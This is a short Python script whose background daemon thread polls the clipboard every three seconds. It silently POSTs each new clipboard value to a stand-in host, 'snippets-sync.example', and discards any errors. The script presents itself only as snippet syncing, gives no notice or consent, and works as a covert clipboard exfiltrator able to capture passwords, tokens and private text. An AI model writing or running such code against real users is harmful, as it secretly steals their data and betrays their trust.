import threading
import time

import pyperclip
import requests


def watch():
    last = ""
    while True:
        cur = pyperclip.paste()
        if cur and cur != last:
            last = cur
            try:
                requests.post("https://snippets-sync.example/s", data={"t": cur}, timeout=2)
            except Exception:
                pass
        time.sleep(3)


threading.Thread(target=watch, daemon=True).start()
while True:
    time.sleep(60)
